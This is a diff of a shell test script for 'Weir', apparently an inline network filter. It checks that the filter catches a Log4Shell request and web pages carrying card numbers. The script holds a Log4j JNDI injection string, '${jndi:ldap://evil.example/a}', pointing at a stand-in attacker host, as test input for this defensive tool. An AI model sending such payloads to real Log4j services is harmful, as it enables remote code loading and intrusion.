@@ -2,13 +2,8 @@
 # The job on a wire: curl -- weir -- nginx, each in a network namespace of its own.
 # Sourced by run.sh.
 
-# Published test numbers, which pass the checksum of card numbers; and one that differs in its last digit.
-card=4111111111111111 other_card=5555555555554444 no_card=4111111111111112
 # shellcheck disable=SC2016 # The braces are for Log4j to expand.
 attack='${jndi:ldap://evil.example/a}'
-# Bytes of a TCP segment that IPv4, its timestamps and an MTU of 1500 leave for data.
-segment_bytes=1448
-
 demo_inline() {
     lab_up "weir-demo-$$"
     lab_mount_bpffs
@@ -31,6 +26,7 @@ demo_inline() {
     leak
     section "What Weir says of it"
     engine_end TERM
+    check_equal "weir run ends at SIGTERM" "$engine_exit" 0
     verdicts
     counters
     section "The engine is killed in mid-download"
@@ -47,31 +43,12 @@ make_pages() {
     page_with 120000 "$no_card" "$no_card" >"$pages/invoice.txt"
 }
 
-# Prints $1 bytes of text in which no rule finds anything.
-text_of() {
-    local line='Nothing in this line needs to be kept back by anyone.' bytes=$1
-    awk -v line="$line" -v bytes="$bytes" 'BEGIN {
-        for (; bytes > length(line); bytes -= length(line) + 1) print line
-        printf "%s", substr(line, 1, bytes)
-    }'
-}
-
-# page_with OFFSET NUMBER...: prints a page of text in which the first number stands at that offset.
-page_with() {
-    text_of "$(($1 - 1))"
-    shift
-    printf "\n%s" "$@"
-    echo
-    text_of 20000
-}
-
 without_weir() {
     fetch "$dir/got" "http://$server_v4/?x=$attack"
     check "the Log4Shell request reaches nginx" site_logged jndi
-    # Where the first number has to stand so that a segment ends in its middle.
+    # A segment is to end in the middle of the first number.
     fetch "$dir/got" "http://$server_v4/invoice.txt"
-    local header=$curl_header_bytes
-    card_offset=$((120000 + segment_bytes - (120000 + header + 8) % segment_bytes))
+    card_offset=$(offset_split_at 120000 8 "$curl_header_bytes" "$segment_bytes_v4")
     page_with "$card_offset" "$card" "$other_card" >"$dir/site/pages/cards.txt"
     fetch "$dir/got" "http://$server_v4/cards.txt"
     check "the page with card numbers arrives in full" cmp -s "$dir/got" "$dir/site/pages/cards.txt"
